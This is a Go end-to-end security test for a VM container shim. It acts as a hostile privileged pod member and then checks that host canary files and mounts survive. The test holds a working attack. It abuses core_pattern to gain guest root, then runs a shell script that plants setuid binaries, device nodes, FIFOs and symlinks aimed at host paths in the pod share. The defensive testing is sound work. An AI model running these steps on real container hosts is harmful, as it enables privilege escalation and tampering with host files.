package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// The guest is hostile (issue 21): a privileged pod member, as CRI runs
// one with privileged_without_host_devices, reaches root in the guest's
// initial namespaces through core_pattern and then rewrites the pod share
// that the host walks when the member, its VM and its pod go. These tests
// stand in for that attacker and check the host after each step.

// hostCanary is a host directory an attacker points symlinks at: a file,
// and a tmpfs mounted on mnt with a file of its own.
type hostCanary struct {
	dir, mnt string
}

func newHostCanary(t *testing.T) *hostCanary {
	t.Helper()
	c := &hostCanary{dir: t.TempDir()}
	c.mnt = filepath.Join(c.dir, "mnt")
	if err := os.Mkdir(c.mnt, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mount("tmpfs", c.mnt, "tmpfs", 0, "size=1m"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = unix.Unmount(c.mnt, unix.MNT_DETACH) })
	for _, f := range []string{filepath.Join(c.dir, "file"), filepath.Join(c.mnt, "file")} {
		if err := os.WriteFile(f, []byte("canary"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return c
}

// check fails the test unless the canary's mount, files and listing are
// as made: nothing unmounted, removed, written or created there.
func (c *hostCanary) check(t *testing.T, step string) {
	t.Helper()
	var st, parent unix.Stat_t
	if err := unix.Stat(c.mnt, &st); err != nil {
		t.Fatalf("%s: host canary %s: %v", step, c.mnt, err)
	}
	if err := unix.Stat(c.dir, &parent); err != nil {
		t.Fatalf("%s: host canary %s: %v", step, c.dir, err)
	}
	if st.Dev == parent.Dev {
		t.Fatalf("%s: the host's mount %s was detached", step, c.mnt)
	}
	var names []string
	_ = filepath.Walk(c.dir, func(p string, info os.FileInfo, err error) error {
		if err == nil {
			names = append(names, strings.TrimPrefix(p, c.dir))
		}
		return nil
	})
	sort.Strings(names)
	if got := strings.Join(names, " "); got != " /file /mnt /mnt/file" {
		t.Fatalf("%s: the host canary %s changed: %s", step, c.dir, got)
	}
	for _, f := range []string{filepath.Join(c.dir, "file"), filepath.Join(c.mnt, "file")} {
		if b, err := os.ReadFile(f); err != nil || string(b) != "canary" {
			t.Fatalf("%s: host canary %s: %q, %v", step, f, b, err)
		}
	}
}

// hostileHelper is the core_pattern helper: it runs as root in the
// guest's initial namespaces with the crashing process's pid as $1 and
// reaches busybox through that process's root (the guest has none).
// In every member dir of the pod share it plants a FIFO, a device node
// (9p refuses both today), a setuid binary, a socket (syslogd's /dev/log,
// in a chroot) and symlinks to the host canary in each share, swaps top-level files for symlinks to the
// canary's mount, then swaps the member dir itself for a symlink to the
// canary (moving it aside); last it marks each share hostile.done.
const hostileHelper = `BB=/proc/$1/root/bin/busybox
P=/run/msb/pod
exec 2>/proc/$1/root/hostile.err
C=%s
for d in $P/*; do
  $BB test -d "$d" -a ! -L "$d" || continue
  for s in "$d"/*; do
    $BB mkfifo "$s/fifo"; $BB mknod "$s/null" c 1 3; $BB cp $BB "$s/busybox"; $BB chmod 4755 "$s/busybox"
    $BB ln -s $C "$s/canary"; $BB mkdir -p "$s/dev"
    $BB timeout 3 $BB chroot "$s" /busybox syslogd -n -O /dev/null
    for f in "$s"/*; do
      $BB test -f "$f" -a ! -L "$f" || continue
      case "$f" in */busybox|*/hostile.*) continue;; esac
      $BB mv "$f" "$f.moved" && $BB ln -s $C/mnt "$f"
    done
  done
  $BB mv "$d" "$d.moved" && $BB ln -s $C "$d"
done
$BB mkfifo $P/fifo; $BB mknod $P/null c 1 3; $BB ln -s $C/mnt $P/deep
for s in $P/*.moved/*; do echo done > "$s/hostile.done"; done
`

// attackFromPodMember makes the privileged container app of a pod VM
// reach guest root through core_pattern and run hostileHelper against
// canary; it returns once the helper is done.
func (e *shimEnv) attackFromPodMember(t *testing.T, app string, c *hostCanary) {
	t.Helper()
	script := strings.ReplaceAll(fmt.Sprintf(hostileHelper, c.dir), "'", `'\''`)
	cmd := `printf '%s' '` + script + `' > /hostile.sh && echo '|/proc/%P/root/bin/busybox sh /proc/%P/root/hostile.sh %P' > /proc/sys/kernel/core_pattern &&
(ulimit -c unlimited; sh -c 'kill -SEGV $$'); i=0
while [ ! -e /hostile.done ] && [ $i -lt 120 ]; do sleep 0.5; i=$((i+1)); done
cat /hostile.done; cat /hostile.err >&2`
	stdout, stderr, err := e.Ctr("task", "exec", "--exec-id", "attack", app, "sh", "-c", cmd)
	if err != nil || strings.TrimSpace(stdout) != "done" {
		t.Fatalf("the core_pattern helper did not run as guest root: %v: %q %q", err, stdout, stderr)
	}
	t.Logf("the helper's errors: %s", stderr)
}

// podDirOf is the host pod dir of sandbox sb's VM.
func (e *shimEnv) podDirOf(t *testing.T, sb string) string {
	t.Helper()
	ms, _ := filepath.Glob(filepath.Join(e.stateRoot, "*", "vms", sb, "containers"))
	if len(ms) != 1 {
		t.Fatalf("pod dir of %s: %v", sb, ms)
	}
	return ms[0]
}

// TestHostilePodMemberSwapsPodDir is issue 21's case 1 and more: a
// privileged pod member, as guest root, swaps its dir in the pod share for
// a symlink to a host directory that holds a mount, swaps its staged
// file for a symlink to that mount, and plants FIFOs, sockets, device
// nodes and setuid files in its shares. Removing the member, then its
// pod, must leave the host's mount and files untouched and create nothing
// outside the VM's state dir; the shim keeps answering, the pod's sandbox
// and another pod keep running, and nothing leaks.
func TestHostilePodMemberSwapsPodDir(t *testing.T) {
	e := startShimEnv(t)
	canary := newHostCanary(t)
	const sb, app, other = "hostile-sb", "hostile-app", "hostile-other"
	vol := t.TempDir()
	file := filepath.Join(t.TempDir(), "podfile")
	if err := os.WriteFile(file, []byte("from-file\n"), 0o644); err != nil {
		t.Fatal(err)
	}

	otherPid := e.runPodSandbox(t, other)
	e.MustCtr(append(append([]string{"run", "-d", "--runtime", msbRuntimeType}, podAnn(sb, "sandbox")...), e.image, sb, "sleep", "600")...)
	sbGone := false
	t.Cleanup(func() {
		if !sbGone {
			e.remove(t, sb)
		}
	})
	e.waitStatus(t, sb, "RUNNING", time.Minute)
	pid := e.taskPid(t, sb)
	flags := append(podAnn(sb, "container"),
		"--with-ns", "network:/proc/"+strconv.Itoa(pid)+"/ns/net",
		"--privileged", "--privileged-without-host-devices",
		"--mount", "type=bind,src="+vol+",dst=/vol,options=rbind:rw",
		"--mount", "type=bind,src="+file+",dst=/etc/podfile,options=rbind:rw")
	e.MustCtr(append(append([]string{"run", "-d", "--runtime", msbRuntimeType}, flags...), e.image, app, "sleep", "600")...)
	appGone := false
	t.Cleanup(func() {
		if !appGone {
			e.remove(t, app)
		}
	})
	e.waitStatus(t, app, "RUNNING", time.Minute)

	podDir := e.podDirOf(t, sb)
	stateDir := filepath.Dir(podDir)
	e.attackFromPodMember(t, app, canary)
	if fi, err := os.Lstat(filepath.Join(podDir, app)); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Fatalf("the guest's swap is not on the host: %v, %v", fi, err)
	}
	if _, err := os.Stat(filepath.Join(vol, "hostile.done")); err != nil {
		t.Fatalf("the helper did not write the member's volume: %v", err)
	}
	canary.check(t, "after the attack")
	t.Logf("the pod dir after the attack: %s", listTree(podDir))
	t.Logf("the member's volume after the attack: %s", listTree(vol))

	n := 0
	alive := func(step string) {
		t.Helper()
		for _, id := range []string{sb, other} {
			if st := e.taskStatus(id); st != "RUNNING" {
				t.Fatalf("%s: %s is %q", step, id, st)
			}
			n++
			if out, _, err := e.Ctr("task", "exec", "--exec-id", "alive"+strconv.Itoa(n), id, "true"); err != nil {
				t.Fatalf("%s: exec in %s: %v %s", step, id, err, out)
			}
		}
		if got := e.taskPid(t, other); got != otherPid {
			t.Fatalf("%s: the other pod's task pid is %d, was %d", step, got, otherPid)
		}
	}
	alive("after the attack")

	e.remove(t, app)
	appGone = true
	canary.check(t, "after the member's delete")
	alive("after the member's delete")
	if _, err := os.Lstat(filepath.Join(podDir, app)); err != nil {
		t.Errorf("the swapped member dir was not left for the VM's teardown: %v", err)
	}
	if !strings.Contains(e.Log(), "keeping it for the VM's teardown") {
		t.Errorf("the shim did not log the refused member dir")
	}
	if b, err := os.ReadFile(file); err != nil || string(b) != "from-file\n" {
		t.Errorf("the staged file's source: %q, %v", b, err)
	}

	e.remove(t, sb)
	sbGone = true
	canary.check(t, "after the pod's delete")
	if _, err := os.Lstat(stateDir); err == nil {
		t.Errorf("the VM's state dir %s is left", stateDir)
	}
	if st := e.taskStatus(other); st != "RUNNING" {
		t.Fatalf("after the pod's delete the other pod is %q", st)
	}
	if out, _, err := e.Ctr("task", "exec", "--exec-id", "alive2", other, "true"); err != nil {
		t.Fatalf("the shim of the other pod does not answer: %v %s", err, out)
	}
}

// listTree lists dir's entries, a level deep, with their types.
func listTree(dir string) string {
	var out []string
	for _, pat := range []string{"*", "*/*"} {
		ms, _ := filepath.Glob(filepath.Join(dir, pat))
		for _, m := range ms {
			if fi, err := os.Lstat(m); err == nil {
				out = append(out, strings.TrimPrefix(m, dir+"/")+":"+fi.Mode().Type().String())
			}
		}
	}
	return strings.Join(out, " ")
}
